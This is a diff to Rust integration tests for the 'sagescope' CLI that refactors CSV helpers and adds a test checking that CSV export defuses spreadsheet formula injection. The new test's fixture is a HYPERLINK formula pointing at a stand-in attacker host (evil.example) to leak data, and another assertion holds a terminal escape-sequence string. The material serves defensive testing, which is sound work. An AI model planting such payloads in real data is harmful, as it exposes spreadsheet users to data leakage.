@@ -19,6 +19,32 @@ fn json_of(output: &std::process::Output) -> Value {
     serde_json::from_slice(&output.stdout).expect("stdout is JSON")
 }
 
+/// Runs `cmd` and checks it exits 0 (stderr shown otherwise).
+fn succeeds(cmd: &mut Command) -> std::process::Output {
+    let out = cmd.output().expect("runs");
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    out
+}
+
+/// The cells of column `name` of a CSV document, read back with a CSV reader.
+fn csv_column(csv: &[u8], name: &str) -> Vec<String> {
+    let mut reader = csv::Reader::from_reader(csv);
+    let at = reader
+        .headers()
+        .expect("a header")
+        .iter()
+        .position(|h| h == name)
+        .expect("the column");
+    reader
+        .records()
+        .map(|r| r.expect("a record")[at].to_string())
+        .collect()
+}
+
 fn keys(row: &Value) -> Vec<String> {
     let mut k: Vec<String> = row.as_object().expect("object").keys().cloned().collect();
     k.sort();
@@ -549,19 +575,9 @@ fn offline_events_export_reads_the_cached_timeline_and_csv_keeps_the_text_as_rec
         .expect("runs");
     // A CSV file carries the data as received (its reader gets the same text back); only
     // the terminal paths make control characters visible.
-    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
-    let detail = reader
-        .headers()
-        .expect("a header")
-        .iter()
-        .position(|h| h == "detail")
-        .expect("a detail column");
-    let details: Vec<String> = reader
-        .records()
-        .map(|r| r.expect("a record")[detail].to_string())
-        .collect();
     assert_eq!(
-        details, ["AlgorithmError: \u{1b}]0;pwned\u{7}"; 2],
+        csv_column(&out.stdout, "detail"),
+        ["AlgorithmError: \u{1b}]0;pwned\u{7}"; 2],
         "header and both events"
     );
 
@@ -623,11 +639,7 @@ fn raw_is_for_csv_only() {
         stderr.contains("--raw only applies to --format csv"),
         "{stderr}"
     );
-    let out = sagescope(&home)
-        .args(["export", "spend", "--demo", "--format", "csv", "--raw"])
-        .output()
-        .expect("runs");
-    assert!(out.status.success());
+    succeeds(sagescope(&home).args(["export", "spend", "--demo", "--format", "csv", "--raw"]));
 }
 
 #[test]
@@ -666,4 +678,36 @@ fn an_error_of_an_account_outside_the_slice_does_not_make_the_export_partial() {
         assert_eq!(code, Some(3), "{research}");
         assert_eq!(doc["errors"][0]["account"], "research");
     }
+}
+
+#[test]
+fn a_formula_in_a_tag_value_is_defused_in_csv_unless_raw() {
+    let formula = "=HYPERLINK(\"http://evil.example/?leak\",\"click\")";
+    let home = tempfile::tempdir().expect("tempdir");
+    let path = home.path().join("cache/sagescope/cache.db");
+    let mut world = sagescope::demo::world(chrono::Utc::now());
+    let row = world
+        .spend
+        .rows
+        .iter_mut()
+        .find(|r| r.group_key == "project")
+        .expect("the demo spends by project");
+    row.group_value = formula.into();
+    let mut cache = sagescope::cache::Cache::open(&path).expect("opens").cache;
+    common::seed_cache(&mut cache, &world);
+    drop(cache);
+    let values = |extra: &[&str]| -> Vec<String> {
+        let out = succeeds(
+            sagescope(&home)
+                .args(["export", "spend", "--offline", "--format", "csv"])
+                .args(["--group-by", "project"])
+                .args(extra),
+        );
+        csv_column(&out.stdout, "group_value")
+    };
+    let defused = values(&[]);
+    assert!(defused.contains(&format!("'{formula}")), "{defused:?}");
+    assert!(!defused.contains(&formula.to_string()));
+    let raw = values(&["--raw"]);
+    assert!(raw.contains(&formula.to_string()), "{raw:?}");
 }
